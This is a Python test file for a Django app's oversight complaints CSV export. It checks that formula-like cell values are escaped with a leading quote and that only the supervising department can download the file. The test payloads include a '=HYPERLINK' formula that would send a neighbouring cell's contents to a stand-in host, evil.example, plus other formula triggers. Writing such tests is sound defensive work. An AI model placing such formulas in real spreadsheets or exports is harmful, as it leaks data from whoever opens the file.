"""The supervising department's complaint export (``/oversight/complaints.csv``) goes through the one CSV writer: a
complaint subject ``=HYPERLINK(...)`` reaches the department's spreadsheet as text, not as a formula (issue 18)."""

from __future__ import annotations

import csv
import io

import pytest

from tests.disputes.helpers import client, number_members, post
from zilu.oversight.models import Complaint
from zilu.oversight.views import EXPORT_FIELDS

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"查看证据")'
SUBJECT = "执行机构违规处分某会员"


@pytest.fixture
def people(users):
    return number_members(users)


def file_complaint(user, **overrides: str) -> Complaint:
    body = {"target": "staff_member", "target_reference": "昌自律处字〔2026〕3号", "staff_named": "王某",
            "subject": SUBJECT, "facts": "工作人员未核实事实。", "request": "请调查。"}  # fmt: skip
    response = post(client(user), "/api/v1/oversight/complaints", {**body, **overrides})
    assert response.status_code == 201, response.content
    return Complaint.objects.get(pk=response.json()["id"])


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="complaints.csv"'
    assert response["Cache-Control"] == "private, no-store"
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM, for spreadsheet programs
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    rows = list(reader)
    assert reader.fieldnames == EXPORT_FIELDS
    return rows


def test_formula_cells_reach_the_department_as_text(people):
    hostile = file_complaint(people["member"], subject=HYPERLINK, staff_named="@王某", target_reference="+86-10")
    Complaint.objects.filter(pk=hostile.pk).update(findings="-撤销处分", corrections="\t=1+1")
    ordinary = file_complaint(people["other_member"])
    Complaint.objects.filter(pk=ordinary.pk).update(corrections="\r=cmd")
    rows = {row["reference"]: row for row in read(client(people["supervisor"]).get("/oversight/complaints.csv"))}
    assert list(rows) == [hostile.reference, ordinary.reference]  # oldest first, as before

    bad = rows[hostile.reference]
    assert bad["subject"] == "'" + HYPERLINK
    assert (bad["staff_named"], bad["target_reference"]) == ("'@王某", "'+86-10")
    assert (bad["findings"], bad["corrections"]) == ("'-撤销处分", "'\t=1+1")
    assert bad["complainant"] == people["member"].member.name

    good = rows[ordinary.reference]
    assert (good["subject"], good["target_reference"], good["staff_named"]) == (
        SUBJECT,
        "昌自律处字〔2026〕3号",
        "王某",
    )
    assert (good["status"], good["target"], good["discloses_identity"]) == ("filed", "staff_member", "False")
    assert good["corrections"] == "'\r=cmd"
    assert good["created_at"].startswith(ordinary.created_at.date().isoformat())


@pytest.mark.parametrize("role", ["public", "member", "staff", "superuser"])
def test_only_the_supervising_department_downloads_it(people, role):
    file_complaint(people["member"], subject=HYPERLINK)
    response = client(people[role]).get("/oversight/complaints.csv")
    assert response.status_code == 403
    assert "HYPERLINK" not in response.content.decode()
